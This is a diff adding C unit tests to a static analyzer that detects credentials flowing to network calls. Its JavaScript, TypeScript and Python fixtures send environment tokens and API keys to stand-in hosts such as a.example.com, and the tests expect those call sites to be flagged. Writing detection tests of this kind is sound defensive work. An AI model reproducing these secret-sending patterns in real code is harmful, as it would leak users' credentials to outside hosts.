@@ -990,6 +990,69 @@ static const struct resolve_case dispatcher_cases[] = {
 	 "helper.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
 };
 
+/* Credential flow per call site inside one module (analyzer/analyze.c keep_per_caller): a
+ * wrapper called with a secret by one caller and with public data by another. Each of
+ * credential_sites[] failed before the fix (checked by building test_resolve from fcc19d4
+ * with these tables: no credential-flow at all, the parameter's callers were merged into
+ * one value that kept no taint), and "concatenated key" of credential_clean[] failed too
+ * (b.example.net got a credential-flow finding, taint per function: checked with the
+ * binary of c8d78ba on the same file). */
+static const struct resolve_case credential_sites[] = {
+	{"cred: js post(url, body) with {token} and with {q}",
+	 JS("index.js", "const TOKEN = process.env.API_TOKEN;\nasync function post(url, body) {\n"
+	    "  return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n}\n"
+	    "post('https://a.example.com/x', { token: TOKEN });\npost('https://b.example.net/y', { q: 'hello' });\n"),
+	 "a.example.com", K(EK_LITERAL), NULL, "fetch", "credential-flow", "a.example.com", 0, NULL, SEV_CRITICAL, NULL},
+	{"cred: js arrow wrapper reached through two named callers",
+	 JS("index.js", "const post = async (url, body) => fetch(url, { method: 'POST', body: JSON.stringify(body) });\n"
+	    "async function report(path, data) { return post('https://a.example.com' + path, data); }\n"
+	    "async function search(q) { return post('https://b.example.net/search', { q }); }\n"
+	    "report('/x', { key: process.env.SECRET_KEY });\nsearch('hello');\n"),
+	 "a.example.com", K(EK_LITERAL), NULL, "fetch", "credential-flow", "a.example.com", 0, NULL, ANY_SEV, NULL},
+	{"cred: py self._post(url, payload) from two methods",
+	 JS("main.py", "import os, requests\nclass Client:\n    def _post(self, url, payload):\n"
+	    "        return requests.post(url, json=payload, timeout=5)\n    def telemetry(self):\n"
+	    "        return self._post('https://a.example.com/t', {'token': os.environ['GITHUB_TOKEN']})\n"
+	    "    def lookup(self, word):\n        return self._post('https://b.example.net/lookup', {'w': word})\n"),
+	 "a.example.com", K(EK_LITERAL), NULL, "requests.post", "credential-flow", "a.example.com", 0, NULL, ANY_SEV, NULL},
+	{"cred: ts request(url, headers) with a bearer header from one of three callers",
+	 JS("index.ts", "function request(url: string, headers: Record<string, string>) {\n  return fetch(url, { headers });\n}\n"
+	    "export function a() { return request('https://a.example.com/x', { Authorization: `Bearer ${process.env.API_TOKEN}` }); }\n"
+	    "export function b() { return request('https://b.example.net/y', { Accept: 'application/json' }); }\n"
+	    "export function c() { return request('https://c.example.org/z', {}); }\n"),
+	 "a.example.com", K(EK_LITERAL), NULL, "fetch", "credential-flow", "a.example.com", 0, NULL, ANY_SEV, NULL},
+	{"cred: py module-level send(url, payload) called from two functions",
+	 JS("main.py", "import os, requests\nSECRET = os.environ['API_KEY']\ndef send(url, payload):\n"
+	    "    return requests.post(url, json=payload)\ndef one():\n    send('https://a.example.com/x', {'key': SECRET})\n"
+	    "def two():\n    send('https://b.example.net/y', {'q': 'x'})\n"),
+	 "a.example.com", K(EK_LITERAL), NULL, "requests.post", "credential-flow", "a.example.com", 0, NULL, ANY_SEV, NULL},
+};
+
+/* ... and the other callers' hosts get none: each of these must FAIL its check. */
+static const struct resolve_case credential_clean[] = {
+	{"cred clean: js {q} caller",
+	 JS("index.js", "const TOKEN = process.env.API_TOKEN;\nasync function post(url, body) {\n"
+	    "  return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n}\n"
+	    "post('https://a.example.com/x', { token: TOKEN });\npost('https://b.example.net/y', { q: 'hello' });\n"),
+	 NULL, ANY_KIND, NULL, NULL, "credential-flow", "b.example.net", 0, NULL, ANY_SEV, NULL},
+	{"cred clean: concatenated key, the public caller",
+	 JS("index.js", "function get(url, key) { return fetch(url + '?k=' + key); }\n"
+	    "get('https://a.example.com/x', process.env.API_KEY);\nget('https://b.example.net/y', 'public');\n"),
+	 NULL, ANY_KIND, NULL, NULL, "credential-flow", "b.example.net", 0, NULL, ANY_SEV, NULL},
+	{"cred clean: ts the two callers without a secret",
+	 JS("index.ts", "function request(url: string, headers: Record<string, string>) {\n  return fetch(url, { headers });\n}\n"
+	    "export function a() { return request('https://a.example.com/x', { Authorization: `Bearer ${process.env.API_TOKEN}` }); }\n"
+	    "export function b() { return request('https://b.example.net/y', { Accept: 'application/json' }); }\n"
+	    "export function c() { return request('https://c.example.org/z', {}); }\n"),
+	 NULL, ANY_KIND, NULL, NULL, "credential-flow", "c.example.org", 0, NULL, ANY_SEV, NULL},
+	{"cred clean: py lookup caller",
+	 JS("main.py", "import os, requests\nclass Client:\n    def _post(self, url, payload):\n"
+	    "        return requests.post(url, json=payload, timeout=5)\n    def telemetry(self):\n"
+	    "        return self._post('https://a.example.com/t', {'token': os.environ['GITHUB_TOKEN']})\n"
+	    "    def lookup(self, word):\n        return self._post('https://b.example.net/lookup', {'w': word})\n"),
+	 NULL, ANY_KIND, NULL, NULL, "credential-flow", "b.example.net", 0, NULL, ANY_SEV, NULL},
+};
+
 /* Wrappers that keep a function's identity (analyzer/eval.c eval_wrapper, stored_member,
  * m_case; from_callers for functions stored in objects). Each failed before the fix:
  * checked by scanning the same files with the binary built from the parent commit 73eea17
@@ -1497,6 +1560,17 @@ static void test_dispatchers(void **state)
 	assert_int_equal(table_failures(dispatcher_cases, sizeof dispatcher_cases / sizeof dispatcher_cases[0], "FAIL", true), 0);
 }
 
+static void test_credential_per_site(void **state)
+{
+	(void)state;
+	assert_int_equal(table_failures(credential_sites, sizeof credential_sites / sizeof credential_sites[0], "FAIL", true), 0);
+	for (size_t i = 0; i < sizeof credential_clean / sizeof credential_clean[0]; i++) {
+		char why[512];
+		if (!run_case(&credential_clean[i], why, sizeof why, false))
+			fail_msg("%s: credential-flow reported for a caller that passes no secret", credential_clean[i].technique);
+	}
+}
+
 static void test_wrappers(void **state)
 {
 	(void)state;
@@ -1527,6 +1601,7 @@ int main(void)
 		cmocka_unit_test(test_reaching),
 		cmocka_unit_test(test_dynamic_import),
 		cmocka_unit_test(test_dispatchers),
+		cmocka_unit_test(test_credential_per_site),
 		cmocka_unit_test(test_wrappers),
 		cmocka_unit_test(test_user_directed),
 	};
